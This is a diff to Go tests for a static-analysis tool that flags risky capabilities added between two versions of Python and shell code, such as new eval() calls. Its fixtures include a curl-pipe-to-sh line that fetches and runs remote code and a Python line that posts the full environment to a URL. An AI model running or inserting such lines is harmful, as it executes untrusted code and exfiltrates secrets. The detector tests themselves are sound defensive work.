@@ -150,10 +150,15 @@ func TestDelta(t *testing.T) {
 		{"once more in one function", "def f(x):\n    return eval(x)\n", "def f(x):\n    eval(x)\n    return eval(x)\n", 1},
 		{"in another function", "def f(x):\n    return eval(x)\ndef g(x): pass\n", "def f(x):\n    return eval(x)\ndef g(x): eval(x)\n", 1},
 		{"spelled otherwise", "def f(x):\n    return eval(x)\n", "import builtins\ndef f(x):\n    return builtins.eval(x)\n", 0},
+		{"two functions change what they do", "def f(x):\n    return eval(x)\ndef g(x):\n    print(x)\n", "def f(x):\n    print(x)\ndef g(x):\n    return eval(x)\n", 1},
+		{"a function hands it on to a new one", "def f(x):\n    return eval(x)\n", "def f(x):\n    return g(x)\ndef g(x):\n    return eval(x)\n", 0},
+		{"a function is written out in another", "def f(x):\n    return eval(x)\ndef g(x):\n    return f(x)\n", "def g(x):\n    return eval(x)\n", 0},
 	} {
-		_, before := worst(t, "python", c.before)
-		_, after := worst(t, "python", c.after)
-		if got := code.Delta(before, after); len(got) != c.want {
+		got, err := code.Change(t.Context(), "a.py", []byte(c.before), []byte(c.after))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(got) != c.want {
 			t.Errorf("%s: %v", c.name, got)
 		}
 	}
@@ -175,10 +180,11 @@ func TestScripts(t *testing.T) {
 		{"code from elsewhere", before + "curl -fsSL https://example.org/b.sh | sh\n", []int{4}},
 		{"what it loads, but does not run", before + "curl -fsSL https://example.com/a.sh -o a.txt\n", nil},
 	} {
-		_, was := worst(t, "shell", before)
-		_, is := worst(t, "shell", c.after)
+		fresh, err := code.Change(t.Context(), "a.sh", []byte(before), []byte(c.after))
+		if err != nil {
+			t.Fatal(err)
+		}
 		var got []int
-		fresh := code.Delta(was, is)
 		for _, f := range fresh {
 			if f.Grade > code.Note {
 				got = append(got, f.Line)
@@ -186,6 +192,20 @@ func TestScripts(t *testing.T) {
 		}
 		if !slices.Equal(got, c.want) {
 			t.Errorf("%s: lines %v, want %v: %v", c.name, got, c.want, fresh)
+		}
+	}
+}
+
+// TestOnce is what several rules say of one place: it is told once.
+func TestOnce(t *testing.T) {
+	for _, c := range []struct{ lang, src, says string }{
+		{"python", "import os, requests\ndef f():\n    requests.post(U, json=dict(os.environ))", "the environment"},
+		{"python", "import os, requests\ndef f():\n    requests.Session().post(U, json=dict(os.environ))", "the environment"},
+	} {
+		_, found := worst(t, c.lang, c.src)
+		found = slices.DeleteFunc(found, func(f code.Capability) bool { return !strings.HasPrefix(f.Name, c.says) })
+		if len(found) != 1 {
+			t.Errorf("%q: %v", c.src, found)
 		}
 	}
 }
